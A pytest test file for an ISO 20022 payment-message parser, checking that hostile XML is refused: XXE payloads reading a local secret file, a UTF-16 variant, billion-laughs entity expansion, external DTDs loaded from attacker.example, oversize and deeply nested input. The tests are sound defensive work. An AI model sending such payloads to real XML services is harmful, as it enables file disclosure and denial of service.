"""Hostile input: XXE, entity expansion, oversize and malformed messages are refused safely."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from sco_settle.messaging.iso20022 import (
    MESSAGE_BYTES_MAX,
    MalformedXmlError,
    MessageRejectedError,
    MessageTooLargeError,
    StatusReason,
    UnsafeXmlError,
    open_message,
    parse_untrusted,
    read_message,
)
from tests.iso20022.builders import credit_message, transfer

NS = "urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"


def _xxe(secret: Path) -> str:
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE Document [<!ENTITY secret SYSTEM "file://{secret}">]>\n'
        f'<Document xmlns="{NS}"><FIToFICstmrCdtTrf><GrpHdr><MsgId>&secret;</MsgId>'
        "</GrpHdr></FIToFICstmrCdtTrf></Document>"
    )


def test_xxe_file_read_is_impossible(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-KEY")
    with pytest.raises(UnsafeXmlError) as caught:
        read_message(_xxe(secret).encode())
    assert caught.value.reason == StatusReason.FF01
    assert "TOP-SECRET-KEY" not in str(caught.value)


def test_xxe_in_utf16_bypassing_the_byte_scan_is_refused_after_parsing(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-KEY")
    data = _xxe(secret).replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    assert b"<!DOCTYPE" not in data
    with pytest.raises(UnsafeXmlError) as caught:
        read_message(data)
    assert "TOP-SECRET-KEY" not in str(caught.value)


def test_the_parser_itself_never_resolves_entities(tmp_path: Path) -> None:
    """Second line of defence: even the lxml parser we configure leaves &secret; unexpanded."""
    from lxml import etree

    from sco_settle.messaging.iso20022.safe_xml import _parser

    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-KEY")
    root = etree.fromstring(_xxe(secret).encode(), _parser())
    assert b"TOP-SECRET-KEY" not in etree.tostring(root)


def _billion_laughs(encoding: str = "utf-8") -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    text = (
        f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
        f"<!DOCTYPE Document [{''.join(entities)}]>"
        f'<Document xmlns="{NS}">&lol9;</Document>'
    )
    return text.encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_billion_laughs_is_refused_fast(encoding: str) -> None:
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError):
        read_message(_billion_laughs(encoding))
    assert time.perf_counter() - started < 0.1


def test_external_dtd_and_parameter_entities_are_refused() -> None:
    for data in (
        b'<!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd"><Document/>',
        b'<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><Document/>',
        b"<Document><!ENTITY x 'y'></Document>",
    ):
        with pytest.raises(UnsafeXmlError):
            read_message(data)


def test_oversize_input_is_refused_before_parsing() -> None:
    valid = credit_message((transfer(1),))
    from sco_settle.messaging.iso20022 import write_credit_transfer

    data = write_credit_transfer(valid)
    padded = data.replace(
        b"<Document", b" " * (MESSAGE_BYTES_MAX - len(data) + 1) + b"<Document", 1
    )
    assert len(padded) == MESSAGE_BYTES_MAX + 1
    with pytest.raises(MessageTooLargeError):
        read_message(padded)
    at_limit = data.replace(b"<Document", b" " * (MESSAGE_BYTES_MAX - len(data)) + b"<Document", 1)
    read_message(at_limit)


@pytest.mark.parametrize(
    "data",
    [b"", b"   ", b"<", b"<Document>", b"<a></b>", b"\xff\xfe\x00", b"<a>&undefined;</a>", b"text"],
)
def test_malformed_input_is_a_rejection(data: bytes) -> None:
    with pytest.raises(MalformedXmlError):
        parse_untrusted(data)


def test_deep_nesting_is_refused_not_a_crash() -> None:
    data = b"<a>" * 100_000 + b"</a>" * 100_000
    with pytest.raises(MessageRejectedError):
        open_message(data)
